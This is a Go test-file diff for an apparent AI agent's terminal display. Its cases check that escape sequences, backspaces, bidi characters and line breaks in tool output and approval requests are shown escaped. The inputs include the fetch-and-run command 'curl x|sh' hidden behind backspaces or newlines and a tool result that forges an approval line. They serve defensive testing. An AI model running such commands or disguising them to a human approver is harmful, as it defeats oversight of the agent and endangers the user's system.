@@ -38,7 +38,7 @@ func TestRender(t *testing.T) {
 
 func TestUpdateFollowsEvents(t *testing.T) {
 	var st Status
-	tool := "shell"
+	tool := "shell\x1b[2J"
 	for _, p := range []proto.Message{
 		&eventsv1.StateChanged{From: "idle", To: "running"},
 		&eventsv1.TokenUsage{ContextUsed: 500, ContextWindow: window(1000), SessionTotalTokens: 700},
@@ -48,7 +48,7 @@ func TestUpdateFollowsEvents(t *testing.T) {
 	} {
 		st.Update(events.New(p))
 	}
-	if got, want := st.Render(false), "executing_tools · shell · Context: 50.0% | Session: 700 tokens"; got != want {
+	if got, want := st.Render(false), "executing_tools · shell^[[2J · Context: 50.0% | Session: 700 tokens"; got != want {
 		t.Fatalf("got %q, want %q", got, want)
 	}
 	if !st.Busy() || st.Approval.GetApprovalId() != "ap-1" {
@@ -81,6 +81,8 @@ func TestDescribe(t *testing.T) {
 		{"a result cannot rewrite the approval line", &eventsv1.ToolExecutionEnd{Name: "shell", Ok: true, Result: "\x1b[1A\x1b[2K\rap-1 wants to run shell {\"command\":\"ls\"}"}, "✓ shell ^[[1A^[[2Kap-1 wants to run shell {\"command\":\"ls\"}\n"},
 		{"a question cannot hide its options", &eventsv1.AskUser{Question: "Continue?\x1b[8m", Options: []string{"yes\u202e"}}, "? Continue?^[[8m [yes<U+202E>]\n"},
 		{"an approval shows its arguments as they are", &eventsv1.ApprovalRequired{ApprovalId: "ap-2", Tool: "shell", Args: &eventsv1.RawJSON{Json: []byte("{\"command\":\"curl x|sh\b\b\b\b\b\b\b\b\b\bls\"}")}}, "ap-2 wants to run shell {\"command\":\"curl x|sh^H^H^H^H^H^H^H^H^H^Hls\"} — allow? [y]es, [n]o, [a]lways\n"},
+		{"arguments print on one line", &eventsv1.ApprovalRequired{ApprovalId: "ap-3", Tool: "shell", Args: &eventsv1.RawJSON{Json: []byte("{\"command\":\"curl x | sh\",\n\n\n\"about\": \"ls\"}")}}, "ap-3 wants to run shell {\"command\":\"curl x | sh\",\"about\":\"ls\"} — allow? [y]es, [n]o, [a]lways\n"},
+		{"arguments that do not parse show their line breaks", &eventsv1.ToolExecutionStart{Name: "shell", Args: &eventsv1.RawJSON{Json: []byte("{\"command\":\n\"ls")}}, "⚙ shell {\"command\":\\n\"ls\n"},
 		{"a stream error from the provider", &eventsv1.StreamError{Error: "bad\u009b2J"}, "stream failed: bad<U+009B>2J\n"},
 	}
 	for _, c := range cases {
